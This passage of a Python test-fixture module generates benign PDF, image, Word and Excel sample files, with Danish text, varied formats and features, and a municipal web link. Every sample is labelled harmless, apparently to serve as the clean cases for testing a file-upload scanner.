    yield Sample("for the web", "plan.pdf", pdf(pages=3, linearize=True))

    def link(made):
        press = D(S=N.URI, URI="https://www.naestved.dk")
        made.pages[0].Annots = A([D(Type=N.Annot, Subtype=N.Link, Rect=A([0, 0, 9, 9]), A=press)])

    def form(made):
        field = D(FT=N.Tx, T="navn", V="Anna", Type=N.Annot, Subtype=N.Widget, Rect=A([0, 0, 9, 9]))
        made.Root.AcroForm = D(Fields=A([made.make_indirect(field)]))

    def outline(made):
        with made.open_outline() as found:
            found.root.append(pikepdf.OutlineItem("Afsnit", 0))

    def drawn(made):
        made.pages[0].Contents = made.make_stream(b"0 0 1 rg 10 10 50 50 re f")

    def opens_at(made):
        made.Root.OpenAction = A([made.pages[0].obj, N.Fit])

    def note(made):
        made.pages[0].Annots = A([D(Type=N.Annot, Subtype=N.Highlight, Rect=A([0, 0, 9, 9]), Contents="Se her")])

    def described(made):
        with made.open_metadata() as words:
            words["dc:title"] = "Tilbud på genbrug"

    def photo(made):
        made.pages[0].Resources = D(XObject=D(Im=made.make_stream(
            picture("JPEG"), Type=N.XObject, Subtype=N.Image, Width=64, Height=48, ColorSpace=N.DeviceRGB,
            BitsPerComponent=8, Filter=N.DCTDecode)))  # fmt: skip

    for change in (link, form, outline, drawn, opens_at, note, described, photo):
        yield Sample(change.__name__, "plan.pdf", pdf(change))
    yield Sample("a line behind the end", "plan.pdf", body + b"\r\n")
    yield Sample("by hand", "plan.pdf", raw_pdf(ROOT, PAGES, PAGE))


def _honest_pictures() -> Iterator[Sample]:
    for kind, modes in (("PNG", ("RGB", "RGBA", "L", "LA", "P", "1", "I;16")), ("JPEG", ("RGB", "L", "CMYK"))):
        for mode in modes:
            yield Sample(f"{kind} {mode}", f"foto.{kind.lower()}", picture(kind, mode=mode))
        for size in ((1, 1), (1, 500), (500, 1), (640, 480), (2400, 10), (2401, 30), (30, 2401)):
            yield Sample(f"{kind} {size}", f"foto.{kind.lower()}", picture(kind, size))
    for turned in range(1, 9):
        exif = Image.Exif()
        exif[0x0112] = turned
        yield Sample(f"turned {turned}", "IMG_0001.JPG", picture("JPEG", exif=exif))
    for quality in (10, 30, 50, 75, 95):
        yield Sample(f"quality {quality}", "IMG_0001.jpg", picture("JPEG", quality=quality))
    for options in ({"progressive": True}, {"optimize": True}, {"subsampling": 0}, {"dpi": (300, 300)}):
        yield Sample(f"jpeg {options}", "IMG_0001.jpg", picture("JPEG", **options))
    for options in ({"optimize": True}, {"compress_level": 0}, {"dpi": (300, 300)}, {"transparency": (1, 2, 3)}):
        yield Sample(f"png {options}", "skærmbillede.png", picture("PNG", **options))
    words = PngImagePlugin.PngInfo()
    words.add_text("Software", "Skærmklip")
    yield Sample("png with words", "skærmbillede.png", picture("PNG", pnginfo=words))
    drawn = Image.new("P", (40, 40))
    ImageDraw.Draw(drawn).ellipse((5, 5, 30, 30), fill=3)
    out = io.BytesIO()
    drawn.save(out, "PNG", transparency=0)
    yield Sample("png palette, clear", "logo.png", out.getvalue())


def written(change=lambda made: None) -> bytes:
    made, out = docx.Document(), io.BytesIO()
    made.add_paragraph("Vi vil sortere madaffald på alle stuer.")
    change(made)
    made.save(out)
    return out.getvalue()


def _honest_words() -> Iterator[Sample]:
    def table(made):
        made.add_table(2, 2).cell(0, 0).text = "Pris"

    def photo(made):
        made.add_picture(io.BytesIO(picture("JPEG")))

    def screenshot(made):
        made.add_picture(io.BytesIO(picture("PNG")))

    def headings(made):
        made.add_heading("Overskrift", 1)
        made.sections[0].header.paragraphs[0].text = "Sidehoved"

    def links_out(made):
        kind = f"{RELS}/hyperlink"
        made.part.relate_to("https://www.naestved.dk", kind, is_external=True)

    def long(made):
        for place in range(200):
            made.add_paragraph(f"Afsnit {place}: æøå ÆØÅ & <tegn>")

    def described(made):
        made.core_properties.title, made.core_properties.author = "Ansøgning", "Anna Ansøger"

    for change in (lambda made: None, table, photo, screenshot, headings, links_out, long, described):
        yield Sample(f"docx {change.__name__}", "projekt beskrivelse.docx", written(change))
    yield Sample("docx stored", "a.docx", office("docx", compression=zipfile.ZIP_STORED))
    yield Sample("docx small", "a.docx", office("docx"))


def _honest_sheets() -> Iterator[Sample]:  # noqa: C901  the same
    def of_openpyxl(change) -> bytes:
        book, out = openpyxl.Workbook(), io.BytesIO()
        book.active.append(["Vare", "Pris"])
        change(book)
        book.save(out)
        return out.getvalue()

    def formula(book):
        book.active["B3"] = "=SUM(B1:B2)"

    def sheets(book):
        book.create_sheet("Budget æøå")

    def press(book):
        book.active["A2"].hyperlink = "https://www.naestved.dk"

    def rows(book):
        for place in range(300):
            book.active.append([f"Række {place}", place])

    for change in (lambda book: None, formula, sheets, press, rows):
        yield Sample(f"xlsx {change.__name__}", "budget.xlsx", of_openpyxl(change))

    def of_xlsxwriter(change) -> bytes:
        out = io.BytesIO()
        with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
            change(book, book.add_worksheet("Budget"))
        return out.getvalue()

    def chart(book, sheet):
        sheet.write_column("A1", [1, 2, 3])
        drawn = book.add_chart({"type": "column"})
        drawn.add_series({"values": "=Budget!$A$1:$A$3"})
        sheet.insert_chart("C2", drawn)

    def photo(_book, sheet):
        sheet.insert_image("B2", "foto.png", {"image_data": io.BytesIO(picture("PNG"))})

    def choice(_book, sheet):
        sheet.data_validation("A1", {"validate": "list", "source": ["ja", "nej"]})

    def remark(_book, sheet):
        sheet.write_comment("A1", "Husk moms")

    def colours(_book, sheet):
        sheet.conditional_format("A1:A9", {"type": "data_bar"})

    for change in (chart, photo, choice, remark, colours):
        yield Sample(f"xlsx {change.__name__}", "budget.xlsx", of_xlsxwriter(change))
    yield Sample("xlsx small", "a.xlsx", office("xlsx"))


def honest() -> list[Sample]:
    found = [*_honest_pdfs(), *_honest_pictures(), *_honest_words(), *_honest_sheets()]
    return [replace(sample, fate=HARMLESS) for sample in found]
